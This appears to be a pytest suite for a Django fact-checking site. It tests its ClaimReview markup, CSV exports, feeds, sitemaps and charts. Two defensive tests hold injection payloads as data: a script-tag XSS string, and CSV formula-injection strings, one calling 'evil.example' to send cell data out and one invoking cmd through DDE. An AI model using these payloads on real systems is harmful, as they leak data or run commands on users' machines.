"""Publishing: ClaimReview, the JSON and CSV exports, feeds, sitemap, robots.txt."""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from claims import services
from claims.models import Capture, Claim, Source, VerdictChange
from tests.conftest import add_source

Status = Claim.Status


def ld_json(html):
    """The JSON-LD blocks of a page, parsed."""
    blocks = re.findall(
        r'<script type="application/ld\+json">(.*?)</script>', html, re.S
    )
    return [json.loads(block) for block in blocks]


@pytest.fixture
def pokrowsk(make_claim, make_party, make_topic, reviewer, rating):
    """A published claim that was re-rated after publication, with an archived
    asserting source."""
    import datetime

    staff = make_party("Russischer Generalstab")
    claim = make_claim(
        statement="Russische Truppen haben Pokrowsk eingenommen.",
        status=Status.PUBLISHED,
        claimant=staff,
        first_made_on=datetime.date(2025, 12, 1),
        first_appearance_url="https://kremlin.example/peskov",
        topics=[make_topic("Krieg")],
    )
    asserting = add_source(
        claim, stance=Source.Stance.ASSERTS, url="https://kremlin.example/a"
    )
    add_source(claim, stance=Source.Stance.DISPUTES, url="https://isw.example/map")
    capture = Capture.objects.filter(source=asserting).get()
    Capture.objects.filter(pk=capture.pk).update(state="succeeded")
    Source.objects.filter(pk=asserting.pk).update(cited_capture=capture)
    services.set_verdict(
        claim=claim, reviewer=reviewer, rating=rating("false"), note="Karten."
    )
    claim.refresh_from_db()
    return claim


def test_claim_page_carries_exactly_one_claimreview(pokrowsk, client, settings):
    settings.PUBLISHER_NAME = "Faktencheck-Desk"
    settings.PUBLISHER_URL = "https://desk.example"
    html = client.get(pokrowsk.get_absolute_url()).content.decode()

    [review] = ld_json(html)

    assert review["@context"] == "https://schema.org"
    assert review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == "Russische Truppen haben Pokrowsk eingenommen."
    assert review["url"] == f"{settings.SITE_URL}/claims/{pokrowsk.slug}/"
    published, modified = pokrowsk.published_at, pokrowsk.verdict_at
    assert review["datePublished"] == timezone.localdate(published).isoformat()
    assert review["dateModified"] == timezone.localdate(modified).isoformat()
    assert review["author"] == {
        "@type": "Organization",
        "name": "Faktencheck-Desk",
        "url": "https://desk.example",
    }
    assert review["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 1,
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": "False",
    }
    item = review["itemReviewed"]
    assert item["@type"] == "Claim"
    assert item["author"] == {"@type": "Organization", "name": "Russischer Generalstab"}
    assert item["datePublished"] == "2025-12-01"
    assert item["firstAppearance"] == {
        "@type": "CreativeWork",
        "url": "https://kremlin.example/peskov",
    }
    [appearance] = item["appearance"]  # asserting sources only
    assert appearance["url"] == "https://kremlin.example/a"
    capture_id = pokrowsk.sources.get(url="https://kremlin.example/a").cited_capture_id
    assert appearance["archivedAt"] == f"{settings.SITE_URL}/archive/{capture_id}/"


@pytest.mark.parametrize("prefix", ["", "/de"])
def test_claimreview_url_is_the_canonical_url_of_its_page(pokrowsk, client, prefix):
    html = client.get(f"{prefix}{pokrowsk.get_absolute_url()}").content.decode()

    canonical = re.search(r'<link rel="canonical" href="([^"]+)">', html).group(1)
    [review] = ld_json(html)

    assert canonical.endswith(f"{prefix}/claims/{pokrowsk.slug}/")
    assert review["url"] == canonical


def test_claimreview_is_not_modified_when_the_verdict_predates_publication(
    make_claim, client
):
    claim = make_claim(status=Status.PUBLISHED)
    [review] = ld_json(client.get(claim.get_absolute_url()).content.decode())
    assert "dateModified" not in review


def test_claimreview_escapes_script_end_tags_in_user_text(
    make_claim, make_party, client
):
    claim = make_claim(
        statement='Sie sagte: </script><script>alert("x")</script> & mehr',
        status=Status.PUBLISHED,
        claimant=make_party("</script><b>"),
    )

    html = client.get(claim.get_absolute_url()).content.decode()

    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert "<" not in block.group(1)
    [review] = ld_json(html)
    assert (
        review["claimReviewed"]
        == 'Sie sagte: </script><script>alert("x")</script> & mehr'
    )
    assert review["itemReviewed"]["author"]["name"] == "</script><b>"


def test_withdrawn_claims_offer_no_claimreview(make_claim, client):
    claim = make_claim(status=Status.WITHDRAWN)
    assert ld_json(client.get(claim.get_absolute_url()).content.decode()) == []


def test_claimreview_feed_lists_every_published_review(pokrowsk, make_claim, client):
    updated = make_claim(status=Status.UPDATED)
    make_claim(status=Status.WITHDRAWN)
    make_claim(status=Status.DRAFT)
    make_claim(status=Status.IN_REVIEW)

    feed = client.get(reverse("claims:claimreview_feed")).json()

    urls = {review["url"].rsplit("/", 2)[-2] for review in feed["@graph"]}
    assert urls == {pokrowsk.slug, updated.slug}
    assert all(review["@type"] == "ClaimReview" for review in feed["@graph"])
    assert feed["next"] is None


def test_claimreview_feed_pages(make_claim, client, monkeypatch):
    from claims import views

    monkeypatch.setattr(views, "CLAIMREVIEW_PAGE", 2)
    for _ in range(5):
        make_claim(status=Status.PUBLISHED)

    first = client.get(reverse("claims:claimreview_feed"), HTTP_HOST="[::1]").json()
    last = client.get(reverse("claims:claimreview_feed"), {"page": "999"}).json()

    assert len(first["@graph"]) == 2 and first["pages"] == 3
    assert first["next"] == f"{settings.SITE_URL}/claimreview.json?page=2"
    assert last["page"] == 3 and len(last["@graph"]) == 1 and last["next"] is None


def test_csv_export_follows_the_filters(pokrowsk, make_claim, client):
    make_claim(statement="Andere Behauptung", status=Status.PUBLISHED, rating="true")
    make_claim(statement="Entwurf", status=Status.DRAFT)

    response = client.get(reverse("claims:claim_list_csv"), {"verdict": "false"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert [row["statement"] for row in rows] == [pokrowsk.statement]
    assert rows[0]["claimant"] == "Russischer Generalstab"
    assert rows[0]["verdict"] == "False"
    assert rows[0]["topics"] == "Krieg"


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))


def test_csv_cells_that_look_like_formulas_stay_text(
    make_claim, make_party, make_topic, client
):
    formula = '=HYPERLINK("https://evil.example/?d="&A1, "Quelle")'
    make_claim(
        statement=formula,
        claimant=make_party("@SUM(1+1)*cmd|' /C calc'!A0"),
        topics=[make_topic("+49 Krieg")],
        status=Status.PUBLISHED,
    )
    make_claim(statement="-1 % Wachstum", status=Status.PUBLISHED)
    make_claim(statement="\tTabulator", status=Status.PUBLISHED)
    make_claim(statement="Pokrowsk = gefallen?", status=Status.PUBLISHED)

    rows = csv_rows(client.get(reverse("claims:claim_list_csv")))

    by_statement = {row["statement"]: row for row in rows}
    assert set(by_statement) == {
        f"'{formula}",
        "'-1 % Wachstum",
        "'\tTabulator",
        "Pokrowsk = gefallen?",
    }
    row = by_statement[f"'{formula}"]
    assert row["claimant"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["topics"] == "'+49 Krieg"
    assert row["url"].startswith("http://")


def test_csv_export_follows_the_page_on_a_nul(pokrowsk, client):
    """The list page drops it, and its CSV link carries it."""
    response = client.get(reverse("claims:claim_list_csv"), {"q": "Pokrowsk\x00"})

    assert [row["statement"] for row in csv_rows(response)] == [pokrowsk.statement]


def test_csv_export_refuses_bad_filters_with_400(db, client):
    response = client.get(reverse("claims:claim_list_csv"), {"made_after": "gestern"})
    assert response.status_code == 400
    assert "made" in response.json()["errors"]


def test_csv_export_says_in_json_that_it_got_too_many_parameters(db, client):
    """As its other bad queries, not with the site's HTML 400 page."""
    query = "&".join(f"p{number}=1" for number in range(1001))

    response = client.get(f"{reverse('claims:claim_list_csv')}?{query}")

    assert response.status_code == 400
    assert response.json() == {
        "errors": {"query": ["More than 1000 query parameters."]}
    }


def test_csv_export_takes_dates_as_yyyy_mm_dd_only(make_claim, client):
    """03/12/2025 is 3 December to a German reader and was read, silently, as
    12 March (the English locale's month-first format)."""
    make_claim(status=Status.PUBLISHED, first_made_on=datetime.date(2025, 6, 1))
    url = reverse("claims:claim_list_csv")

    month_first = client.get(url, {"made_after": "03/12/2025"})
    iso = client.get(url, {"made_after": "2025-12-03"})

    assert month_first.status_code == 400
    assert "made" in month_first.json()["errors"]
    assert csv_rows(iso) == []


def test_csv_export_refuses_a_filter_given_twice(pokrowsk, make_claim, client):
    make_claim(statement="Andere Behauptung", status=Status.PUBLISHED, rating="true")

    response = client.get(
        reverse("claims:claim_list_csv"), {"verdict": ["false", "true"]}
    )

    assert response.status_code == 400
    assert response.json() == {"errors": {"verdict": ["Give this parameter once."]}}


def test_csv_export_ignores_a_parameter_it_does_not_read(pokrowsk, client):
    """As the list page does, whose CSV link keeps its query string: a
    tracking tag given twice made that link a 400."""
    query = {"utm_source": ["feed", "mail"]}
    url = reverse("claims:claim_list_csv")

    assert client.get(reverse("claims:claim_list"), query).status_code == 200
    assert len(csv_rows(client.get(url, query))) == 1


def feed_items(response):
    root = ET.fromstring(response.content)  # noqa: S314 -- our own feed
    return [item.findtext("title") for item in root.iter("item")]


def test_site_feed_announces_new_and_changed_verdicts(pokrowsk, make_claim, client):
    make_claim(statement="Geheimer Entwurf", status=Status.IN_REVIEW)

    titles = feed_items(client.get(reverse("claims:verdict_feed")))

    assert titles[0] == "False: Russische Truppen haben Pokrowsk eingenommen."
    assert (
        "Unproven / still disputed: Russische Truppen haben Pokrowsk eingenommen."
        in titles
    )
    assert not any("Geheimer Entwurf" in title for title in titles)


def test_claim_feed_follows_one_claim(pokrowsk, make_claim, client, reviewer, rating):
    make_claim(status=Status.PUBLISHED)
    url = reverse("claims:claim_feed", kwargs={"slug": pokrowsk.slug})
    assert len(feed_items(client.get(url))) == 2

    services.set_verdict(
        claim=pokrowsk, reviewer=reviewer, rating=rating("mostly-false"), note="n"
    )

    titles = feed_items(client.get(url))
    assert len(titles) == 3
    assert titles[0].startswith("Mostly false: ")


def test_topic_and_party_feeds(pokrowsk, make_claim, client):
    other = make_claim(status=Status.PUBLISHED)
    topic = pokrowsk.topics.get()
    disputing = pokrowsk.sources.get(stance="disputes").party

    by_topic = feed_items(client.get(reverse("claims:topic_feed", args=[topic.slug])))
    by_party = feed_items(
        client.get(reverse("claims:party_feed", args=[disputing.slug]))
    )
    atom = client.get(reverse("claims:party_feed_atom", args=[disputing.slug]))

    assert by_topic and all("Pokrowsk" in title for title in by_topic)
    assert by_party and all("Pokrowsk" in title for title in by_party)
    assert not any(other.statement in title for title in by_topic + by_party)
    assert atom["Content-Type"].startswith("application/atom+xml")
    assert b"Pokrowsk" in atom.content


@pytest.mark.parametrize("status", [Status.DRAFT, Status.IN_REVIEW])
def test_feed_of_a_draft_claim_is_404(make_claim, client, status):
    claim = make_claim(status=status)
    assert (
        client.get(reverse("claims:claim_feed", args=[claim.slug])).status_code == 404
    )


def test_feeds_of_topics_and_parties_only_drafts_mention_are_404(
    make_claim, make_party, make_topic, client
):
    secret = make_topic("Geheime Offensive")
    claimant = make_party("Geheimer Stab")
    draft = make_claim(status=Status.DRAFT, claimant=claimant, topics=[secret])
    cited = add_source(draft).party
    make_claim(status=Status.PUBLISHED, topics=[make_topic("Krieg")])
    urls = [reverse("claims:topic_feed", args=[secret.slug])] + [
        reverse(name, args=[party.slug])
        for name in ("claims:party_feed", "claims:party_feed_atom")
        for party in (claimant, cited)
    ]

    answers = [client.get(url) for url in urls]

    assert [answer.status_code for answer in answers] == [404] * len(urls)
    assert not any(b"Geheim" in answer.content for answer in answers)


ATOM = "{http://www.w3.org/2005/Atom}"


def feed_links(response):
    """Every URL an RSS or Atom feed links to."""
    root = ET.fromstring(response.content)  # noqa: S314 -- our own feed
    links = [element.text for tag in ("link", "guid") for element in root.iter(tag)]
    links += [element.get("href") for element in root.iter(f"{ATOM}link")]
    links += [element.text for element in root.iter(f"{ATOM}id")]
    return links


def test_feed_links_are_on_site_url_whatever_the_host(pokrowsk, client, settings):
    settings.SITE_URL = "https://factcheck.example.org"
    topic = pokrowsk.topics.get()
    urls = [
        reverse("claims:verdict_feed"),
        reverse("claims:verdict_feed_atom"),
        reverse("claims:topic_feed", args=[topic.slug]),
        reverse("claims:party_feed_atom", args=[pokrowsk.claimant.slug]),
        reverse("claims:claim_feed", args=[pokrowsk.slug]),
    ]
    for url in urls:
        links = feed_links(client.get(url, HTTP_HOST="127.0.0.1"))

        assert len(links) >= 4  # the feed, itself and two verdicts
        assert all(link.startswith("https://factcheck.example.org/") for link in links)
        assert f"https://factcheck.example.org{url}" in links


SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"


def sitemap_locations(client, url, **headers):
    """The <loc>s of a sitemap or sitemap index, by a path or absolute URL."""
    response = client.get(local(url), **headers)
    assert response.status_code == 200
    root = ET.fromstring(response.content)  # noqa: S314 -- our own sitemap
    return root.tag, [element.text for element in root.iter(f"{SITEMAP}loc")]


def local(url):
    parts = urlsplit(url)
    return f"{parts.path}?{parts.query}" if parts.query else parts.path


def whole_sitemap(client, **headers):
    """Every URL in every page the index names, and those pages."""
    tag, pages = sitemap_locations(client, "/sitemap.xml", **headers)
    assert tag == f"{SITEMAP}sitemapindex"
    urls = []
    for page in pages:
        tag, locations = sitemap_locations(client, page, **headers)
        assert tag == f"{SITEMAP}urlset"
        urls += locations
    return pages, urls


def test_sitemap_lists_public_claims_in_both_languages(
    pokrowsk, make_claim, client, settings
):
    draft = make_claim(status=Status.DRAFT)

    pages, urls = whole_sitemap(client)
    xml = client.get(local(pages[0])).content.decode()

    assert f"{settings.SITE_URL}/claims/{pokrowsk.slug}/" in urls
    assert f"{settings.SITE_URL}/de/claims/{pokrowsk.slug}/" in urls
    assert 'hreflang="de"' in xml
    assert not any(draft.slug in url for url in urls)


def test_sitemap_index_names_every_page_so_no_claim_is_left_out(
    make_claim, client, settings, monkeypatch
):
    from claims.sitemaps import ClaimSitemap

    monkeypatch.setattr(ClaimSitemap, "limit", 2)  # one claim a page, twice
    claims = [make_claim(status=Status.PUBLISHED) for _ in range(5)]

    pages, urls = whole_sitemap(client)

    section = f"{settings.SITE_URL}/sitemap-claims.xml"
    assert pages == [
        section,
        *(f"{section}?p={page}" for page in range(2, 6)),
        f"{settings.SITE_URL}/sitemap-lists.xml",
    ]
    for claim in claims:
        assert f"{settings.SITE_URL}/claims/{claim.slug}/" in urls
        assert f"{settings.SITE_URL}/de/claims/{claim.slug}/" in urls


def test_sitemap_urls_are_on_site_url_whatever_the_host(pokrowsk, client, settings):
    settings.SITE_URL = "https://factcheck.example.org"

    pages, urls = whole_sitemap(client, HTTP_HOST="127.0.0.1")

    assert len(pages) == 2 and len(urls) == 4  # the claim and the list, twice
    assert all(url.startswith("https://factcheck.example.org/") for url in pages + urls)


def test_robots_txt_points_at_the_sitemap_index_and_keeps_crawlers_out_of_archives(
    db, client, settings
):
    text = client.get("/robots.txt").content.decode()
    assert f"Sitemap: {settings.SITE_URL}/sitemap.xml" in text
    assert sitemap_locations(client, "/sitemap.xml")[0] == f"{SITEMAP}sitemapindex"
    assert "Disallow: /archive/" in text
    assert "Disallow: /admin/" in text


def test_claim_page_has_canonical_and_sharing_meta(pokrowsk, client, settings):
    html = client.get(f"/de{pokrowsk.get_absolute_url()}").content.decode()

    assert (
        f'<link rel="canonical" href="{settings.SITE_URL}/de/claims/{pokrowsk.slug}/">'
        in html
    )
    assert f'hreflang="en" href="{settings.SITE_URL}/claims/{pokrowsk.slug}/"' in html
    assert '<meta property="og:type" content="article">' in html
    title = "Falsch: Russische Truppen haben Pokrowsk eingenommen."
    assert f'<meta property="og:title" content="{title}">' in html
    assert '<meta name="twitter:card" content="summary">' in html


def test_rating_colours_come_from_a_stylesheet(client, rating):
    css = client.get("/ratings.css").content.decode()
    false = rating("false")
    assert (
        f".badge--false, .dot--false {{ background: {false.colour}; color: #ffffff; }}"
        in css
    )
    assert ".fill--unproven { fill: #5f6b7a; }" in css


def test_public_pages_have_no_inline_styles_or_scripts(pokrowsk, client):
    for url in ["/", pokrowsk.get_absolute_url()]:
        html = client.get(url).content.decode()
        assert "style=" not in html
        scripts = re.findall(r"<script[^>]*>", html)
        assert all('type="application/ld+json"' in tag for tag in scripts)


def test_timeline_is_drawn_as_an_svg_band(pokrowsk, client):
    html = client.get(pokrowsk.get_absolute_url()).content.decode()
    figure = html[html.index('<figure class="timeline-chart">') :]
    figure = figure[: figure.index("</figure>")]
    assert figure.count("<rect ") == 2
    assert figure.index("fill--unproven") < figure.index("fill--false")
    assert "Unproven / still disputed · " in figure


def test_timeline_segments_are_shares_of_the_band_with_whole_labels(
    pokrowsk, client, now
):
    """Percentages, not a scaled drawing: the band spans its column at any
    width and its labels keep their size; each label is clipped by its own
    segment rather than cut at a number of characters."""
    first, second = pokrowsk.verdict_changes.order_by("changed_at")
    month_ago, days_ago = (now - datetime.timedelta(days=n) for n in (30, 10))
    VerdictChange.objects.filter(pk=first.pk).update(
        changed_at=month_ago, published_at=month_ago
    )
    VerdictChange.objects.filter(pk=second.pk).update(
        changed_at=days_ago, published_at=days_ago
    )

    html = client.get(pokrowsk.get_absolute_url()).content.decode()

    segments = re.findall(r'<svg x="([\d.]+)%" width="([\d.]+)%"', html)
    shares = [(float(x), float(width)) for x, width in segments]
    assert shares[0][0] == 0 and shares[1][0] == shares[0][1]
    assert shares[0][1] == pytest.approx(200 / 3, abs=0.1)
    assert sum(width for _, width in shares) == pytest.approx(100, abs=0.1)
    labels = re.findall(r"<text [^>]*>([^<]*)</text>", html)
    assert labels == ["Unproven / still disputed", "False"]


def test_a_verdict_that_stood_for_a_minute_is_seen_but_not_labelled(
    pokrowsk, client, now
):
    first, second = pokrowsk.verdict_changes.order_by("changed_at")
    month_ago = now - datetime.timedelta(days=30)
    minute_later = month_ago + datetime.timedelta(minutes=1)
    VerdictChange.objects.filter(pk=first.pk).update(
        changed_at=month_ago, published_at=month_ago
    )
    VerdictChange.objects.filter(pk=second.pk).update(
        changed_at=minute_later, published_at=minute_later
    )

    html = client.get(pokrowsk.get_absolute_url()).content.decode()
    first_width = float(re.search(r'<svg x="0.0%" width="([\d.]+)%"', html)[1])
    assert first_width == 0.5
    assert re.findall(r"<text [^>]*>([^<]*)</text>", html) == ["False"]


def test_home_page_charts_count_claims_by_verdict(pokrowsk, make_claim, client):
    make_claim(status=Status.PUBLISHED, rating="false")
    make_claim(status=Status.DRAFT, rating="true")

    response = client.get("/")

    counts = {
        rating.slug: count for rating, count, _ in response.context["verdict_counts"]
    }
    assert counts["false"] == 2 and counts["true"] == 0
    moves = response.context["verdict_moves"]
    assert len(moves["columns"]) in (12, 13)
    given = sum(
        block["total"] for column in moves["columns"] for block in column["blocks"]
    )
    assert given == 3  # two verdicts for Pokrowsk, one for the other public claim


def test_verdicts_per_month_chart_names_its_colours(pokrowsk, make_claim, client):
    make_claim(status=Status.PUBLISHED, rating="true")
    make_claim(status=Status.DRAFT, rating="mostly-false")
    given = VerdictChange.objects.filter(claim__status__in=Claim.PUBLIC_STATUSES)
    expected = {change.rating.label: change.rating.slug for change in given}

    page = client.get("/").content.decode()

    legend = re.search(r'<ul class="legend">(.*?)</ul>', page, re.S).group(1)
    entries = re.findall(r'class="fill--([\w-]+)".*?</svg>([^<]+)</li>', legend)
    assert {label: slug for slug, label in entries} == expected
    assert "True" in expected and "Mostly false" not in expected  # a draft's


def test_verdicts_per_month_columns_share_the_width_and_name_their_years(
    pokrowsk, client
):
    """Columns in percentages and type in pixels: 11-pixel month names at any
    width. Each column says its month; the first and every January its year."""
    moves = client.get("/").context["verdict_moves"]
    page = client.get("/").content.decode()

    chart = page[page.index('<svg class="chart__columns"') :]
    columns = re.findall(r'<svg x="([\d.]+)%" width="([\d.]+)%"', chart)
    assert len(columns) == len(moves["columns"]) == 12
    assert [float(x) for x, _ in columns] == pytest.approx(
        [index * 100 / 12 for index in range(12)], abs=0.01
    )
    assert "viewBox" not in chart[: chart.index('<ul class="legend">')]
    months = [column["month"] for column in moves["columns"]]
    years = re.findall(r'y="150"[^>]*>(\d{4})</text>', chart)
    assert years == [
        str(month.year)
        for index, month in enumerate(months)
        if index == 0 or month.month == 1
    ]
    assert 1 <= len(years) <= 2


def test_verdicts_per_month_chart_ends_at_the_newest_verdict(make_claim, client):
    """A desk whose last verdict is over a year old still shows its last year."""
    make_claim(status=Status.PUBLISHED, rating="true")
    make_claim(status=Status.PUBLISHED, rating="false")
    two_years_ago = timezone.now() - datetime.timedelta(days=730)
    VerdictChange.objects.update(changed_at=two_years_ago, published_at=two_years_ago)

    moves = client.get("/").context["verdict_moves"]

    given = [(c["month"], b["total"]) for c in moves["columns"] for b in c["blocks"]]
    assert len(given) == 2 and sum(total for _, total in given) == 2
    newest_month = timezone.localtime(two_years_ago).date().replace(day=1)
    assert moves["columns"][-1]["month"] == newest_month
    assert {rating.slug for rating in moves["legend"]} == {"true", "false"}
